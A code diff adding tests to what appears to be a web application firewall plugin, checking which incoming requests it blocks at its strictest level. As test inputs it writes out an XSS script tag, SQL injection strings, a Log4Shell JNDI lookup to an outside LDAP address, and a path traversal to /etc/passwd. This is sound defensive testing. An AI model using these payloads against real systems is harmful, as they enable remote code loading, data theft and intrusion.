@@ -1,4 +1,6 @@
 import { describe, expect, test } from "bun:test";
+import { createEngine } from "../engine/engine.ts";
+import { allPatterns } from "../engine/patterns/all-patterns.ts";
 import { admin, member } from "../testing/fake-ctx.ts";
 import { type StartedPlugin, startPlugin } from "../testing/started-plugin.ts";
 
@@ -55,6 +57,66 @@ describe("F4: a rate rule for everything", () => {
   test("that names sign-in counts it", async () => {
     const plugin = await started({}, { ...everybody, path: "/api/auth/login" });
     expect(await passing(plugin, { method: "POST", path: "/api/auth/login" })).toBe(2);
+  });
+});
+
+describe("F4: patterns on the way in", () => {
+  const strictest = async () => {
+    const plugin = await startPlugin({ makeEngine: createEngine, patterns: allPatterns });
+    const body = { masterSwitchEnabled: true, paranoiaLevel: 4, threshold: 1 };
+    await plugin.call("PUT", "/config", { body, user: null });
+    return plugin;
+  };
+  const stopped = async (plugin: StartedPlugin, request: Request) =>
+    (await plugin.pass(request)).stopped?.status ?? null;
+  // Found from the second level on, in what a browser sends with each request.
+  const odd = { cookie: "prefs=it's -- x; t={{a}}", "x-seen": "<b>" };
+
+  test.each(wayIn)(
+    "pass over what a browser sends by itself to $path, at whatever level",
+    async (request) => {
+      const plugin = await strictest();
+      expect(await stopped(plugin, { ...request, headers: odd })).toBeNull();
+      expect(await stopped(plugin, { path: "/about", headers: odd })).toBe(403);
+    },
+  );
+
+  test.each(wayIn)(
+    "look at the query of $path, and at its headers for what no honest one has",
+    async (request) => {
+      const plugin = await strictest();
+      const query = "q=%3Cscript%3Ealert(1)%3C/script%3E";
+      expect(await stopped(plugin, { ...request, query })).toBe(403);
+      expect(await stopped(plugin, { ...request, query: "q=it's -- x" })).toBe(403);
+      const headers = { "x-api-version": "\u0024{jndi:ldap://203.0.113.1/a}" };
+      expect(await stopped(plugin, { ...request, headers })).toBe(403);
+    },
+  );
+
+  test("look at all fields of a sign-in but the password", async () => {
+    const plugin = await strictest();
+    const send = (fields: object) =>
+      stopped(plugin, {
+        ...{ method: "POST", path: "/api/auth/login", route: "/api/auth/login" },
+        headers: { ...odd, "content-type": "application/json" },
+        body: JSON.stringify(fields),
+      });
+    expect(await send({ email: "ada@example.org", password: "' or 1=1 -- <script>" })).toBeNull();
+    expect(await send({ email: "' or 1=1 --", password: "x" })).toBe(403);
+  });
+
+  test("look at all of what only resembles it", async () => {
+    const plugin = await strictest();
+    for (const request of [
+      { method: "POST", path: "/login" },
+      { path: "/api/auth/login" },
+      { path: "/assets/..%2f..%2fetc/passwd" },
+      { path: "/assets/../login" },
+    ])
+      expect([request.path, await stopped(plugin, { ...request, headers: odd })]).toEqual([
+        request.path,
+        403,
+      ]);
   });
 });
 
